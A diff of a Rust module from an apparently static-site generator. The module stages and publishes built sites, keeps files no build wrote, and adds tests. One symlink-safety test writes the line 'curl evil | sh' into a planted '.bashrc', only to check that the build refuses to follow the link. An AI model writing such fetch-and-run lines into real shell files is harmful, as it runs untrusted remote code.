@@ -1,31 +1,30 @@
 //! A built site on disk.
 
-use std::collections::HashSet;
+use std::collections::{BTreeSet, HashSet};
 use std::fs;
-use std::io::{self, Write as _};
+use std::mem;
 use std::path::{Path, PathBuf};
-use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::atomic::Ordering;
 use std::sync::{Mutex, MutexGuard, PoisonError};
 use std::time::SystemTime;
 
-use rustc_hash::FxHashMap;
+use rustc_hash::{FxHashMap, FxHashSet};
 use serde::{Deserialize, Serialize};
 
-use super::{Output, commit};
+use super::Output;
+use super::listing::{ForeignFile, Standing};
+use super::stage::{Changes, Published, Stage};
 use crate::cache::{Fingerprint, Signature};
 use crate::error::Error;
-use crate::marker::Marker;
-
-/// Up to so many files are moved into the folder one by one; beyond, a whole new folder takes its place.
-const MOST_MOVED: usize = 500;
+use crate::marker::Manifest;
 
 /// A file that a build has written.
 #[derive(Clone, Debug, Deserialize, Serialize)]
 pub(crate) struct KeptFile {
     content: Fingerprint,
-    /// Of the file in the built folder: it is as it was written while this is the same.
+    /// Signature of the file in the built folder. While it is the same, the file is as it was written.
     signature: Signature,
-    /// Of the file that it is a copy of.
+    /// Signature of the file that it is a copy of.
     source: Option<Signature>,
 }
 
@@ -34,6 +33,16 @@ impl KeptFile {
     pub(crate) fn bytes(&self) -> u64 {
         self.signature.size()
     }
+
+    /// Signature of the file when it was written.
+    pub(super) fn signature(&self) -> Signature {
+        self.signature
+    }
+
+    /// Replaces the signature of a file that was copied.
+    pub(super) fn set_signature(&mut self, signature: Signature) {
+        self.signature = signature;
+    }
 }
 
 /// The files of a built folder, by path.
@@ -41,175 +50,142 @@ pub(crate) type KeptFiles = FxHashMap<String, KeptFile>;
 
 /// A built site on disk.
 ///
-/// New files are written into a folder beside the target. A whole site takes the target's place when all of it is
-/// there; after a small change its files are moved over, see [`commit`]. A build that fails or is killed before that
-/// leaves the target as it was.
+/// The whole new site is prepared in a folder of its own: files that stay are second names of those in the output
+/// folder, so they are never written to. At the end it takes the place of the output folder, see [`super::publish`]. A build
+/// that fails or is killed before that leaves the output as it was.
 #[derive(Debug)]
 pub(crate) struct DiskOutput {
-    target: PathBuf,
-    aside: tempfile::TempDir,
-    /// What the build before wrote and nobody has touched since.
-    before: StandingFiles,
-    /// Files in the target that this build must replace or remove.
-    touched: Vec<String>,
+    standing: Standing,
+    stage: Stage,
+    foreign: Foreign,
     site: Mutex<NewSite>,
 }
 
-/// What the build has given so far.
+/// Files in the output folder that no build has written, by path.
+#[derive(Debug)]
+struct Foreign {
+    files: FxHashMap<PathBuf, u64>,
+    /// Folders that hold them.
+    folders: FxHashSet<PathBuf>,
+}
+
+impl Foreign {
+    fn new(files: &[ForeignFile]) -> Self {
+        let folders = files.iter().flat_map(|file| file.path.ancestors().skip(1));
+        Self {
+            folders: folders.map(Path::to_owned).collect(),
+            files: files.iter().map(|file| (file.path.clone(), file.number)).collect(),
+        }
+    }
+
+    /// Returns the foreign file or folder that keeps the site from having a file at a path.
+    fn obstacle<'a>(&self, path: &'a Path) -> Option<&'a Path> {
+        if self.files.is_empty() {
+            return None;
+        }
+        let above = path.ancestors().find(|above| self.files.contains_key(*above));
+        above.or_else(|| self.folders.contains(path).then_some(path))
+    }
+}
+
+/// What the build has written so far.
 #[derive(Debug, Default)]
 struct NewSite {
     files: KeptFiles,
     written: HashSet<String>,
     folders: HashSet<PathBuf>,
+    /// Foreign files and folders in the places of the site's files.
+    obstacles: BTreeSet<PathBuf>,
 }
 
-/// What a build has come to on disk.
+/// The result of a build on disk.
 #[derive(Debug)]
 pub(crate) struct Finished {
     /// All files of the site.
     pub(crate) files: KeptFiles,
     /// How many files differ from those of the build before.
     pub(crate) changed: usize,
+    /// What remains to be done once the new site shows.
+    pub(crate) published: Published,
 }
 
 impl Finished {
-    /// Size of the whole site.
+    /// Size of the whole site in bytes.
     pub(crate) fn bytes(&self) -> u64 {
         self.files.values().map(KeptFile::bytes).sum()
     }
 }
 
-/// A file that is as it was written.
-#[derive(Debug)]
-struct StandingFile {
-    file: KeptFile,
-    /// The new site has it too.
-    stays: AtomicBool,
-}
-
-type StandingFiles = FxHashMap<String, StandingFile>;
-
-/// All files of a built folder, as the system knows them.
-#[derive(Debug)]
-pub(crate) struct Listing {
-    target: PathBuf,
-    files: Vec<(String, Option<Signature>)>,
-}
-
-impl Listing {
-    /// Looks at all files of a folder; what a killed build left to do there is done before.
-    pub(crate) fn of(target: &Path) -> Result<Self, Error> {
-        commit::resume(target)?;
-        Ok(Self { target: target.to_owned(), files: files(target) })
-    }
-}
-
-/// A built folder as it stands, beside what is known of it.
-#[derive(Debug)]
-pub(crate) struct Standing {
-    target: PathBuf,
-    /// How many files were known.
-    known: usize,
-    /// Those that are as they were written.
-    before: StandingFiles,
-    /// The paths of all other files in the folder.
-    touched: Vec<String>,
-}
-
-impl Standing {
-    /// A folder of which nothing is known: all of it is to be replaced.
-    pub(crate) fn unknown(target: &Path) -> Result<Self, Error> {
-        commit::resume(target)?;
-        Ok(Self {
-            target: target.to_owned(),
-            known: 0,
-            before: StandingFiles::default(),
-            touched: Vec::new(),
-        })
-    }
-
-    /// Compares what is in a folder with what was written there.
-    pub(crate) fn beside(listing: Listing, mut known: KeptFiles) -> Self {
-        let count = known.len();
-        let (mut before, mut touched) = (StandingFiles::default(), Vec::new());
-        before.reserve(count);
-        for (path, signature) in listing.files {
-            match known.remove_entry(&path) {
-                Some((path, file)) if Some(file.signature) == signature => {
-                    before.insert(path, StandingFile { file, stays: AtomicBool::new(false) });
-                }
-                _ => touched.push(path),
-            }
-        }
-        Self { target: listing.target, known: count, before, touched }
-    }
-
-    /// Are all known files, and no others, in the folder, as they were written?
-    pub(crate) fn is_as_written(&self) -> bool {
-        self.touched.is_empty() && self.before.len() == self.known
-    }
-
-    /// Size of the files that are as they were written, in bytes.
-    pub(crate) fn bytes(&self) -> u64 {
-        self.before.values().map(|standing| standing.file.bytes()).sum()
-    }
-}
-
 impl DiskOutput {
-    /// Prepares to replace a folder; what stands there as it was written need not be written again.
-    pub(crate) fn new(standing: Standing) -> Result<Self, Error> {
-        let Standing { target, before, touched, .. } = standing;
-        refuse_foreign(&target)?;
-        let parent = parent(&target);
-        fs::create_dir_all(parent).map_err(Error::file("make the folder", parent))?;
-        let aside = tempfile::Builder::new()
-            .prefix(commit::ASIDE_PREFIX)
-            .tempdir_in(parent)
-            .map_err(Error::file("make a folder in", parent))?;
-        Ok(Self { target, aside, before, touched, site: Mutex::default() })
+    /// Prepares a new site for an output folder. Files that are there as they were written need not be written again.
+    /// `spare` is the path of an older copy of the output folder, which this build brings up to date, see
+    /// [`super::mirror`].
+    ///
+    /// # Errors
+    ///
+    /// When somebody's work is in the folder, or no folder can be made beside or within it.
+    pub(crate) fn new(mut standing: Standing, spare: Option<PathBuf>) -> Result<Self, Error> {
+        standing.check_ours()?;
+        let stage = Stage::new(&mut standing, spare)?;
+        let foreign = Foreign::new(&standing.foreign);
+        Ok(Self { standing, stage, foreign, site: Mutex::default() })
     }
 
-    /// Puts the new files in their place.
-    pub(crate) fn finish(self) -> Result<Finished, Error> {
+    /// Puts the new site in its place.
+    ///
+    /// # Errors
+    ///
+    /// When the site has a file in the place of one that no build has written, or the system refuses.
+    pub(crate) fn finish(mut self) -> Result<Finished, Error> {
+        self.check_obstacles()?;
+        self.write_manifest()?;
+        let Self { mut standing, stage, foreign, site } = self;
         let NewSite { files: new, written, .. } =
-            self.site.into_inner().unwrap_or_else(PoisonError::into_inner);
-        let is_over_another = !self.before.is_empty();
+            site.into_inner().unwrap_or_else(PoisonError::into_inner);
         let mut files = KeptFiles::default();
-        files.reserve(self.before.len() + new.len());
-        let mut removed = self.touched;
-        for (path, standing) in self.before {
-            if standing.stays.into_inner() {
-                files.insert(path, standing.file);
-            } else {
-                removed.push(path);
+        files.reserve(standing.unchanged.len() + new.len());
+        let mut removed = mem::take(&mut standing.touched);
+        for (path, unchanged) in mem::take(&mut standing.unchanged) {
+            match unchanged.stays.into_inner() {
+                true => drop(files.insert(path, unchanged.file)),
+                false => removed.push(path),
             }
         }
         files.extend(new);
         removed.retain(|path| !files.contains_key(path));
+        stage.remove(&removed)?;
         let changed = written.len() + removed.len();
-        let mut finished = Finished { files, changed };
-        if !self.target.exists() {
-            make_readable(self.aside.path())?;
-            fs::rename(self.aside.path(), &self.target)
-                .map_err(Error::file("move the build to", &self.target))?;
-        } else if is_over_another && changed <= MOST_MOVED {
-            if changed > 0 {
-                let mut moved: Vec<String> = written.into_iter().collect();
-                moved.sort_unstable();
-                // Stays until all is done: what stops half way is finished by the next build.
-                let aside = self.aside.keep();
-                commit::commit(&aside, &self.target, moved, removed)?;
-                // What is left of it is in nobody's way.
-                let _ = fs::remove_dir_all(aside);
-            }
-        } else {
-            let aside = self.aside.path();
-            link_kept(&mut finished.files, &written, &self.target, aside)?;
-            make_readable(aside)?;
-            // What stood in the target's place lies aside then and goes with the guard.
-            swap(aside, &self.target)?;
+        let removed: HashSet<String> = removed.into_iter().collect();
+        let changes = Changes { written: &written, removed: &removed, files: &files };
+        let published = stage.publish(standing, &changes, &|path| {
+            let ours = |path| files.contains_key(path) || removed.contains(path);
+            path.to_str().is_some_and(ours) || foreign.files.contains_key(path)
+        })?;
+        Ok(Finished { files, changed, published })
+    }
+
+    /// Reports all foreign files that are in the way of the site's.
+    fn check_obstacles(&mut self) -> Result<(), Error> {
+        let site = self.site.get_mut().unwrap_or_else(PoisonError::into_inner);
+        let paths: Vec<PathBuf> = mem::take(&mut site.obstacles).into_iter().collect();
+        match paths.is_empty() {
+            true => Ok(()),
+            false => Err(Error::ForeignFiles { folder: self.standing.target.path.clone(), paths }),
         }
-        Ok(finished)
+    }
+
+    /// Writes the list of all files of the new site, itself among them.
+    fn write_manifest(&self) -> Result<(), Error> {
+        let bytes = {
+            let site = self.site();
+            let unchanged = self.standing.unchanged.iter();
+            let staying = unchanged
+                .filter(|(_, file)| file.stays.load(Ordering::Relaxed))
+                .map(|(path, _)| path.as_str());
+            let new = site.files.keys().map(String::as_str);
+            Manifest::bytes(staying.chain(new).chain([Manifest::FILE]))
+        };
+        self.write_copy(Manifest::FILE, &bytes, None)
     }
 
     fn site(&self) -> MutexGuard<'_, NewSite> {
@@ -218,25 +194,40 @@ impl DiskOutput {
 
     fn write_copy(&self, path: &str, bytes: &[u8], source: Option<Signature>) -> Result<(), Error> {
         let content = Fingerprint::of(bytes);
-        let standing = self.before.get(path).map(|standing| &standing.file);
-        if let Some(file) = standing.filter(|file| file.content == content) {
+        let unchanged = self.standing.unchanged.get(path).map(|unchanged| &unchanged.file);
+        if let Some(file) = unchanged.filter(|file| file.content == content) {
             let file = KeptFile { source, ..file.clone() };
             self.site().files.insert(path.to_owned(), file);
             return Ok(());
         }
-        let on_disk = self.aside.path().join(path);
-        if let Some(folder) = on_disk.parent()
+        if let Some(obstacle) = self.foreign.obstacle(Path::new(path))
+            && !self.is_same(obstacle, path, bytes)
+        {
+            self.site().obstacles.insert(obstacle.to_owned());
+            return Ok(());
+        }
+        if let Some(folder) = Path::new(path).parent()
             && !self.site().folders.contains(folder)
         {
-            fs::create_dir_all(folder).map_err(Error::file("make the folder", folder))?;
+            self.stage.make_folder(folder)?;
             self.site().folders.insert(folder.to_owned());
         }
-        let metadata = write_file(&on_disk, bytes).map_err(Error::file("write", &on_disk))?;
+        let metadata = self.stage.write(path, bytes)?;
         let file = KeptFile { content, signature: Signature::new(&metadata), source };
         let mut site = self.site();
         site.files.insert(path.to_owned(), file);
         site.written.insert(path.to_owned());
         Ok(())
+    }
+
+    /// Reports whether a foreign file is the very file that the site has at its path, such as a `CNAME` that was put
+    /// into the output before it was put among the static files. The site's takes its place then.
+    fn is_same(&self, foreign: &Path, path: &str, bytes: &[u8]) -> bool {
+        let root = self.standing.root.as_ref();
+        let read = || root.and_then(|root| root.folder.read_below(foreign).ok());
+        foreign == Path::new(path)
+            && self.foreign.files.contains_key(foreign)
+            && read().is_some_and(|theirs| theirs == bytes)
     }
 }
 
@@ -248,7 +239,7 @@ impl Output for DiskOutput {
     fn copy(&self, path: &str, source: &Path) -> Result<(), Error> {
         let now = SystemTime::now();
         let signature = Signature::of(source).filter(|signature| signature.is_settled(now));
-        let before = self.before.get(path).and_then(|standing| standing.file.source);
+        let before = self.standing.unchanged.get(path).and_then(|unchanged| unchanged.file.source);
         if signature.is_some() && signature == before && self.keep(path) {
             return Ok(());
         }
@@ -256,134 +247,48 @@ impl Output for DiskOutput {
         self.write_copy(path, &bytes, signature)
     }
 
-    fn keep(&self, path: &str) -> bool {
-        let Some(standing) = self.before.get(path) else { return false };
-        standing.stays.store(true, Ordering::Relaxed);
+    fn keep_all(&self, paths: &[&str]) -> bool {
+        let unchanged: Option<Vec<_>> =
+            paths.iter().map(|path| self.standing.unchanged.get(*path)).collect();
+        let Some(unchanged) = unchanged else { return false };
+        for unchanged in unchanged {
+            unchanged.stays.store(true, Ordering::Relaxed);
+        }
         true
     }
 
     fn before(&self, path: &str) -> Option<Vec<u8>> {
-        self.before.get(path)?;
-        fs::read(self.target.join(path)).ok()
+        self.standing.unchanged.get(path)?;
+        self.standing.root.as_ref()?.folder.read_below(Path::new(path)).ok()
     }
 
     fn names_before(&self, folder: &str) -> Vec<String> {
         let below = format!("{folder}/");
-        self.before.keys().filter(|path| path.starts_with(&below)).cloned().collect()
+        let paths = self.standing.unchanged.keys();
+        paths.filter(|path| path.starts_with(&below)).cloned().collect()
     }
-}
-
-/// Writes a file, and tells what the system knows of it then.
-fn write_file(path: &Path, bytes: &[u8]) -> io::Result<fs::Metadata> {
-    let mut file = fs::File::create(path)?;
-    file.write_all(bytes)?;
-    file.metadata()
-}
-
-/// All files of a folder, by path, and what the system says of them. A large site has a hundred thousand: an entry that
-/// comes from its folder is asked by name, without going down the whole path once more.
-fn files(folder: &Path) -> Vec<(String, Option<Signature>)> {
-    let mut files = Vec::new();
-    let mut folders = vec![String::new()];
-    while let Some(prefix) = folders.pop() {
-        // What can't be read is as good as not there: it is written again.
-        let Ok(entries) = fs::read_dir(folder.join(&prefix)) else { continue };
-        for entry in entries.flatten() {
-            let path = format!("{prefix}{}", entry.file_name().to_string_lossy());
-            if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
-                folders.push(format!("{path}/"));
-            } else {
-                let signature = entry.metadata().ok().map(|metadata| Signature::new(&metadata));
-                files.push((path, signature));
-            }
-        }
-    }
-    files
-}
-
-/// Brings the files that stay into the new folder.
-fn link_kept(
-    files: &mut KeptFiles,
-    written: &HashSet<String>,
-    target: &Path,
-    aside: &Path,
-) -> Result<(), Error> {
-    for (path, file) in files.iter_mut().filter(|(path, _)| !written.contains(*path)) {
-        let (from, to) = (target.join(path), aside.join(path));
-        if let Some(folder) = to.parent() {
-            fs::create_dir_all(folder).map_err(Error::file("make the folder", folder))?;
-        }
-        // Not every file system knows two names for one file.
-        if fs::hard_link(&from, &to).is_err() {
-            fs::copy(&from, &to).map_err(Error::file("copy", &from))?;
-            let metadata = fs::metadata(&to).map_err(Error::file("copy", &from))?;
-            file.signature = Signature::new(&metadata);
-        }
-    }
-    Ok(())
-}
-
-/// The folder that a target lies in.
-pub(crate) fn parent(target: &Path) -> &Path {
-    match target.parent() {
-        Some(parent) if !parent.as_os_str().is_empty() => parent,
-        _ => Path::new("."),
-    }
-}
-
-/// A folder that holds something other than a build is somebody's work.
-fn refuse_foreign(target: &Path) -> Result<(), Error> {
-    let Ok(mut entries) = fs::read_dir(target) else { return Ok(()) };
-    if entries.next().is_some() && Marker::read(target).is_none() {
-        return Err(Error::ForeignFolder(target.to_owned()));
-    }
-    Ok(())
-}
-
-/// Temporary folders are private; a web server of another user has to read this one.
-fn make_readable(folder: &Path) -> Result<(), Error> {
-    #[cfg(unix)]
-    {
-        use std::os::unix::fs::PermissionsExt as _;
-        fs::set_permissions(folder, fs::Permissions::from_mode(0o755))
-            .map_err(Error::file("open to others", folder))?;
-    }
-    Ok(())
-}
-
-/// Exchanges two folders, in one step where the system can.
-fn swap(new: &Path, target: &Path) -> Result<(), Error> {
-    #[cfg(target_os = "linux")]
-    {
-        use rustix::fs::{CWD, RenameFlags, renameat_with};
-        if renameat_with(CWD, new, CWD, target, RenameFlags::EXCHANGE).is_ok() {
-            return Ok(());
-        }
-    }
-    let old = target.with_extension("old");
-    fs::rename(target, &old).map_err(Error::file("move", target))?;
-    if let Err(source) = fs::rename(new, target) {
-        // The previous site goes back to its place.
-        let _ = fs::rename(&old, target);
-        return Err(Error::file("move the build to", target)(source));
-    }
-    fs::rename(&old, new).map_err(Error::file("move", &old))
 }
 
 #[cfg(test)]
 mod tests {
+    use super::super::{Listing, Target};
     use super::*;
+    use crate::marker::Marker;
+
+    fn standing(target: &Path, known: &KeptFiles) -> Result<Standing, Error> {
+        let target = Target::find(target)?;
+        match known.is_empty() {
+            true => Standing::unknown(target),
+            false => Ok(Standing::compare(Listing::with_signatures(target)?, known.clone())),
+        }
+    }
 
     fn over(target: &Path, known: KeptFiles) -> Result<DiskOutput, Error> {
-        DiskOutput::new(match known.is_empty() {
-            true => Standing::unknown(target)?,
-            false => Standing::beside(Listing::of(target)?, known),
-        })
+        DiskOutput::new(standing(target, &known)?, None)
     }
 
     fn is_as_written(target: &Path, known: &KeptFiles) -> bool {
-        let listing = Listing::of(target).expect("the folder is ours");
-        Standing::beside(listing, known.clone()).is_as_written()
+        standing(target, known).expect("the folder is ours").is_as_written()
     }
 
     fn write(output: &DiskOutput, files: &[(&str, &str)]) {
@@ -420,7 +325,8 @@ mod tests {
         for name in ["old.html", "new.html"] {
             let output = over(&target, KeptFiles::default()).expect("free, or a build");
             write(&output, &[(name, "text")]);
-            output.finish().expect("the folder is ours");
+            let finished = output.finish().expect("the folder is ours");
+            finished.published.settle().expect("the folder is ours");
         }
         assert!(!target.join("old.html").exists());
         assert!(target.join("new.html").exists());
@@ -441,11 +347,13 @@ mod tests {
         let second = over(&target, known).expect("the folder is a build");
         write(&second, &[("a/same.html", "same"), ("a/new.html", "new")]);
         let finished = second.finish().expect("the folder is ours");
+        finished.published.settle().expect("the folder is ours");
 
-        assert_eq!(finished.changed, 3, "one is new, two are gone");
+        assert_eq!(finished.changed, 3, "one file is new, one is gone, and the manifest says so");
         assert_eq!(Signature::of(&target.join("a/same.html")), same);
         assert_eq!(fs::read(target.join("a/new.html")).expect("it is there"), b"new");
-        assert!(!target.join("b").exists() && !target.join("stray.txt").exists());
+        assert!(!target.join("b").exists());
+        assert_eq!(fs::read(target.join("stray.txt")).expect("it stays"), b"somebody's");
         assert!(is_as_written(&target, &finished.files));
         assert_eq!(count(folder.path()), 1);
     }
@@ -472,5 +380,183 @@ mod tests {
         fs::write(folder.path().join("thesis.txt"), "years of work").expect("the folder is ours");
         let refused = over(folder.path(), KeptFiles::default());
         assert!(matches!(refused, Err(Error::ForeignFolder(_))));
+    }
+
+    #[test]
+    fn several_files_are_kept_all_or_none() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let target = folder.path().join("build");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("a.html", "a"), ("a.json", "a")]);
+        let known = first.finish().expect("the folder is ours").files;
+        fs::remove_file(target.join("a.json")).expect("it is there");
+
+        let second = over(&target, known).expect("the folder is a build");
+        assert!(!second.keep_all(&["a.html", "a.json"]));
+        write(&second, &[]);
+        let files = second.finish().expect("the folder is ours").files;
+        assert!(!files.contains_key("a.html"), "a file was kept whose other half is gone");
+        assert!(!target.join("a.html").exists());
+    }
+
+    #[test]
+    fn a_file_takes_the_place_of_a_folder_and_a_folder_that_of_a_file() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let target = folder.path().join("build");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("a", "file"), ("b/c.html", "in a folder")]);
+        let known = first.finish().expect("the folder is ours").files;
+
+        let second = over(&target, known).expect("the folder is a build");
+        write(&second, &[("a/d.html", "in a folder"), ("b", "file")]);
+        second.finish().expect("the folder is ours");
+        assert_eq!(fs::read(target.join("a/d.html")).expect("it is there"), b"in a folder");
+        assert_eq!(fs::read(target.join("b")).expect("it is there"), b"file");
+    }
+
+    /// Fills the target with what no build has written, and returns its paths.
+    fn add_foreign(target: &Path) -> [&'static str; 4] {
+        let paths = ["CNAME", ".git/objects/ab", "guide/notes.txt", "a/deep/er.txt"];
+        for path in paths {
+            let file = target.join(path);
+            fs::create_dir_all(file.parent().expect("a file has a folder")).expect("ours");
+            fs::write(file, path).expect("the folder is ours");
+        }
+        fs::create_dir(target.join("empty")).expect("the folder is ours");
+        paths
+    }
+
+    fn assert_foreign(target: &Path, paths: &[&str]) {
+        for path in paths {
+            let text = fs::read_to_string(target.join(path));
+            assert_eq!(text.expect("it stays"), *path);
+        }
+        assert!(target.join("empty").is_dir());
+    }
+
+    #[test]
+    fn what_no_build_has_written_stays_with_and_without_knowledge_of_the_previous_build() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let target = folder.path().join("build");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("guide/a.html", "one"), ("guide/gone.html", "one")]);
+        let known = first.finish().expect("the folder is ours").files;
+        let foreign = add_foreign(&target);
+        assert!(is_as_written(&target, &known), "foreign files change nothing");
+
+        let second = over(&target, known).expect("the folder is a build");
+        write(&second, &[("guide/a.html", "two")]);
+        second.finish().expect("the folder is ours");
+        assert_foreign(&target, &foreign);
+        assert!(!target.join("guide/gone.html").exists());
+
+        let third = over(&target, KeptFiles::default()).expect("the folder is a build");
+        write(&third, &[("index.html", "three")]);
+        third.finish().expect("the folder is ours");
+        assert_foreign(&target, &foreign);
+        assert!(!target.join("guide/a.html").exists(), "the manifest says that a build wrote it");
+    }
+
+    #[test]
+    fn all_foreign_files_in_the_way_are_named_and_nothing_changes() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let target = folder.path().join("build");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("index.html", "one")]);
+        first.finish().expect("the folder is ours");
+        let foreign = add_foreign(&target);
+
+        let second = over(&target, KeptFiles::default()).expect("the folder is a build");
+        write(&second, &[("CNAME/x.html", ""), ("guide/notes.txt", "site's"), ("a/deep", "file")]);
+        write(&second, &[("a/deep/er.txt", "a/deep/er.txt")]);
+        let refused = second.finish().expect_err("files are in the way");
+        let Error::ForeignFiles { paths, .. } = refused else { panic!("{refused}") };
+        assert_eq!(paths, ["CNAME", "a/deep", "guide/notes.txt"].map(PathBuf::from));
+        assert_foreign(&target, &foreign);
+        assert_eq!(fs::read(target.join("index.html")).expect("it stays"), b"one");
+        assert_eq!(count(folder.path()), 1);
+    }
+
+    #[test]
+    fn a_foreign_file_with_the_same_bytes_becomes_the_site_s() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let target = folder.path().join("build");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("index.html", "one")]);
+        first.finish().expect("the folder is ours");
+        fs::write(target.join("CNAME"), "docs.example.com").expect("the folder is ours");
+        for site in [vec![("CNAME", "docs.example.com")], vec![]] {
+            let output = over(&target, KeptFiles::default()).expect("the folder is a build");
+            write(&output, &site);
+            output.finish().expect("nothing is in the way");
+            assert_eq!(target.join("CNAME").exists(), !site.is_empty());
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_planted_link_is_neither_followed_nor_lost() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let (target, elsewhere) = (folder.path().join("build"), folder.path().join("elsewhere"));
+        fs::create_dir(&elsewhere).expect("the folder is ours");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("index.html", "one")]);
+        first.finish().expect("the folder is ours");
+        std::os::unix::fs::symlink("../elsewhere", target.join("a")).expect("the folder is ours");
+
+        let second = over(&target, KeptFiles::default()).expect("the folder is a build");
+        write(&second, &[("index.html", "two")]);
+        second.finish().expect("nothing is in the way");
+        assert_eq!(fs::read_link(target.join("a")).expect("it stays"), Path::new("../elsewhere"));
+
+        let third = over(&target, KeptFiles::default()).expect("the folder is a build");
+        write(&third, &[("a/.bashrc", "curl evil | sh")]);
+        assert!(matches!(third.finish(), Err(Error::ForeignFiles { .. })));
+        assert_eq!(count(&elsewhere), 0);
+    }
+
+    #[test]
+    fn an_old_site_becomes_the_new_one_without_being_written_to() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let (target, spare) = (folder.path().join("build"), folder.path().join("spare"));
+        let mut known = KeptFiles::default();
+        for round in 0..5_u32 {
+            let standing = standing(&target, &known).expect("free, or a build");
+            let output = DiskOutput::new(standing, Some(spare.clone())).expect("it is ours");
+            let text = format!("round {round}");
+            let own = format!("{round}/own.html");
+            write(&output, &[("same.html", "same"), ("new.html", &text), (&own, "")]);
+            let finished = output.finish().expect("the folder is ours");
+            known = finished.files;
+            finished.published.settle().expect("the folder is ours");
+            assert!(is_as_written(&target, &known));
+            assert_eq!(fs::read_to_string(target.join("new.html")).expect("there"), text);
+            // The old site is whole until the next build takes it.
+            let old = fs::read_to_string(spare.join("new.html")).expect("the spare copy is there");
+            assert_eq!(old, format!("round {}", round.max(1) - 1));
+            assert_eq!(count(&target), 5, "two files, one folder, marker and manifest");
+        }
+        assert_eq!(count(folder.path()), 2);
+    }
+
+    #[test]
+    fn a_file_that_somebody_adds_during_a_build_is_in_the_new_site() {
+        let folder = tempfile::tempdir().expect("a folder for the test");
+        let target = folder.path().join("build");
+        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        write(&first, &[("a/index.html", "one")]);
+        let known = first.finish().expect("the folder is ours").files;
+        let second = over(&target, known).expect("the folder is a build");
+        write(&second, &[("a/index.html", "two")]);
+        for path in ["upload.txt", "a/upload.txt"] {
+            fs::write(target.join(path), path).expect("the folder is ours");
+        }
+        fs::create_dir(target.join("uploads")).expect("the folder is ours");
+        second.finish().expect("the folder is ours");
+        for path in ["upload.txt", "a/upload.txt"] {
+            assert_eq!(fs::read_to_string(target.join(path)).expect("it stays"), path);
+        }
+        assert!(target.join("uploads").is_dir());
+        assert_eq!(fs::read(target.join("a/index.html")).expect("it is there"), b"two");
     }
 }
